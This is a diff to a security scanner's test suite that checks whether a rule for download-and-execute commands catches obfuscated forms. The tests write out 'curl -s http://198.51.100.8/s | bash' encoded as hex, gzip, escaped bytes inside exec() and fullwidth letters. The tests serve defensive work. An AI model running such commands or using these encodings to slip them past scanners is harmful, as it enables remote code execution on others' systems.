@@ -117,6 +117,9 @@ describe('scan evasions', () => {
     expect(rulesOf(scanOne('a.txt', `x = "${gz}"`).findings)).toContain('download.raw-ip-exec');
     const hex = Buffer.from('curl -s http://198.51.100.8/s | bash').toString('hex');
     expect(rulesOf(scanOne('a.txt', `x = "${hex}"`).findings)).toContain('download.raw-ip-exec');
+    const escapes = [...Buffer.from('curl -s http://198.51.100.8/s | bash')].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
+    const hit = scanOne('a.py', `exec("${escapes}")`).findings.find((f) => f.rule === 'download.raw-ip-exec');
+    expect(hit?.evidence).toMatch(/^\[hex\] curl/);
   });
   it('normalises fullwidth letters with NFKC', () => {
     const fullwidth = 'ｃｕｒｌ -s http://198.51.100.9/i | ｂａｓｈ';
